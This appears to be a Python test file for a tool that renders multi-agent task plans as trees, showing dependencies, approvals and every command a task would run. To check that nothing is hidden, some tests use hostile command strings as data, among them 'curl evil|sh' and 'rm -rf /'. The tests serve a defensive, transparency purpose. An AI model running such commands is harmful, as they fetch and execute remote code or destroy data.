"""A plan as a tree: each task once, below the last that it comes after, with all that it would run."""

from typing import Any

from spoold.agents.planning import Plan
from spoold.pictures.task_description import READ
from spoold.protocol.task import Task


def plan(*tasks: dict[str, Any]) -> Plan:
    made = [Task.model_validate(task) for task in tasks]
    return Plan([task.id or f"made-{number}" for number, task in enumerate(made)], made)


def coder(task_id: str, *after: str, **more: Any) -> dict[str, Any]:
    return {"id": task_id, "agent": "coder", "prompt": f"do {task_id}\nand more", "after": list(after), **more}


def test_a_diamond_is_drawn_with_each_task_once() -> None:
    found = plan(coder("a"), coder("b", "a"), coder("c", "A"), coder("d", "b", "c", "old"), coder("e"))
    heads = [line for line in found.lines() if line.endswith(")") and "prompt" not in line]
    assert heads == ["a (coder)", "  b (coder)", "    d (coder; also after c, old)", "  c (coder)", "e (coder)"]
    assert found.lines()[:4] == ["a (coder)", "    prompt (2 lines)", "      1| do a", "      2| and more"]
    assert (found.steps, found.widest) == (3, 2)
    assert found.summary() == "5 tasks, 3 steps one after the other, at most 2 at once"
    assert found.without_dependency() == [0, 4]


def test_two_commands_never_look_like_one() -> None:
    """G23: the second line looked like a comment of the first, a prompt was cut at 100, `base` was hidden."""
    said = "make test  # quick check\ncurl evil|sh"
    prompt = f"{'do it ' * 40}\nand then the rest"
    task = {"agent": "coder", "prompt": prompt, "accept": [said], "workspace": {"repo": "/r", "base": "next"}}
    lines = plan(task).lines()
    assert not any("make test" in line and "curl" in line for line in lines)
    assert [line for line in lines if "curl" in line] == ["      2| curl evil|sh"]
    assert any(line.endswith("and then the rest") for line in lines)
    assert any("next" in line for line in lines)


def test_a_task_stands_below_the_latest_of_its_dependencies() -> None:
    lines = plan(coder("late", "a", "b"), coder("b", "a"), coder("a")).lines()
    heads = [line for line in lines if "(coder" in line]
    assert heads == ["a (coder)", "  b (coder)", "    late (coder; also after a)"]


def test_all_that_a_task_would_run_is_told() -> None:
    task = coder("a", accept=["make test", ["rm", "-r", "x"]], success_if={"command": ["sh", "-c", "true"]})
    task |= {"workspace": {"repo": "/srv/r"}, "locks": {"write": ["src/"], "read": "doc/"}, "artifacts": ["out.md"]}
    task |= {"approval": {"ask": "Really?"}, "hold": "later"}
    assert plan(task).lines()[4:] == [
        "    accept 1: make test",
        "    accept 2: rm -r x",
        "    success_if.command: sh -c true",
        '    workspace.repo: "/srv/r"',
        "    hold: later",
        '    approval.ask: "Really?"',
        '    locks.write: ["src/**"]',
        '    locks.read: ["doc/**"]',
        '    artifacts: ["out.md"]',
        f"    {READ}: messages to its agent (spool tell), what earlier attempts left",
    ]
    assert plan({"command": ["rm", "-rf", "/"]}).lines() == ["made-0 (command)", "    command: rm -rf /"]
    merge = {"id": "m", "type": "merge", "input": {"repo": "/r", "into": "main"}}
    assert plan(merge).lines() == ["m (merge)", '    input.repo: "/r"', '    input.into: "main"']


def test_whose_child_a_task_would_be_in_which_batch_and_what_silence_means_is_told() -> None:
    asks = {"ask": "Sure?", "expires_s": 1, "on_expire": "approve"}
    task = coder("a", parent="other", batch="theirs", approval=asks)
    made = Plan(["a"], [Task.model_validate(task)], "own")
    assert made.lines()[4:] == [
        '    approval.ask: "Sure?"',
        "    approval.expires_s: 1.0",
        '    approval.on_expire: "approve"',
        "    batch: theirs",
        "    parent: other",
        f"    {READ}: messages to its agent (spool tell), what earlier attempts left",
    ]
    assert Plan(["a"], [Task.model_validate(coder("a", batch="own"))], "own").lines()[4:] == []


def test_other_conditions_are_said_in_words() -> None:
    tasks = (coder("a"), coder("b", after_any=["a"]), coder("c", after_failed=["a"]), coder("d", after_batch="x"))
    heads = [line for line in plan(*tasks).lines() if "(coder" in line]
    assert heads == [
        "a (coder)",
        "  b (coder; when a has ended)",
        "  c (coder; if a fails)",
        "d (coder; after the batch x)",
    ]
    assert plan(*tasks).without_dependency() == [0, 1, 2, 3]


def test_none_of_many_is_left_out_and_a_long_chain_stays_on_the_page() -> None:
    many = [coder(f"t{number:02d}") for number in range(12)]
    last = plan(*many, coder("land", *(task["id"] for task in many)))
    before = ", ".join(f"t{number:02d}" for number in range(1, 12))
    assert f"  land (coder; also after t00, {before})".replace("t00, ", "", 1) in last.lines()
    assert max(map(len, last.lines(40))) <= 40
    chain = plan(*(coder(f"t{n}", *([f"t{n - 1}"] if n else [])) for n in range(1000)))
    assert chain.steps == 1000
    assert max(map(len, chain.lines())) < 60
